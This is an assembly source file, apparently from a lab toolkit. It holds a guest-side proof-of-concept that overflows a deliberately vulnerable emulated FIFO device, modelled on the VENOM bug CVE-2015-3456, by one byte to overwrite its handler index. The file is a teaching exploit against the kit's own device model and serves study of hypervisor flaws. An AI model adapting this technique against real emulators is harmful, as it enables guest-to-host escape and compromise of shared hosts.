# venom64: the guest side of a VENOM-style attack (CVE-2015-3456) on labkit's FIFO device model.
# Ring 0 checks that a FIFO device answers at port 0x3f4 (status 0x80; without one it prints
# "venom: no FIFO device at 0x3f4" and exits 2), resets it (command 0x00), writes its payload
# byte by byte to the data port 0x3f5, asks the device to execute (command 0x01) and prints
# the device's answer, read from 0x3f5 up to a 0 byte (255 bytes at most), then exits 0.
# The payload: 16 bytes that fill the device's 16-byte FIFO and one more, 0x02, which a device
# that does not bound its FIFO index stores in the byte after the FIFO: its handler index
# (labkit.vmm.devices.vulnerable).  A parameter block at 0x80000 replaces it: [0x80000] the
# payload's length (0: the built-in one), [0x80008] its bytes (at most 248).

        .equ COM1, 0x3F8                # labkit.x86.layout.COM1_PORT
        .equ LSR, COM1 + 5
        .equ LSR_THRE, 0x20
        .equ DEBUG_EXIT, 0xF4
        .equ FIFO_COMMAND, 0x3F4
        .equ FIFO_DATA, 0x3F5
        .equ PARAMS, 0x80000

        mov dx, FIFO_COMMAND
        in al, dx
        cmp al, 0x80
        je 1f
        lea rsi, [no_device]
        call puts
        mov al, 2
        out DEBUG_EXIT, al
        hlt

1:      xor eax, eax                    # RESET
        out dx, al
        lea rsi, [payload]
        mov ecx, payload_end - payload
        mov rax, [PARAMS]
        test rax, rax
        jz 2f
        mov ecx, 248
        cmp rax, rcx
        cmovb ecx, eax
        lea rsi, [PARAMS + 8]
2:      mov ebx, ecx                    # ebx = bytes sent
        mov dx, FIFO_DATA
3:      mov al, [rsi]
        out dx, al
        inc rsi
        dec ecx
        jnz 3b
        mov dx, FIFO_COMMAND
        mov al, 1                       # EXECUTE
        out dx, al

        lea rsi, [sent]
        call puts
        mov eax, ebx
        call put_decimal
        lea rsi, [answered]
        call puts
        mov ecx, 255
4:      mov dx, FIFO_DATA
        in al, dx
        test al, al
        jz 5f
        call putc
        dec ecx
        jnz 4b
5:      mov al, 10
        call putc
        xor eax, eax
        out DEBUG_EXIT, al
        hlt

        .include "uart_print.inc"          # put_decimal, puts, putc (polling COM1)

payload:    .ascii "AAAAAAAAAAAAAAAA"
            .byte 0x02
payload_end:
no_device:  .asciz "venom: no FIFO device at 0x3f4\n"
sent:       .asciz "venom: sent "
answered:   .asciz " bytes; the device answered: "
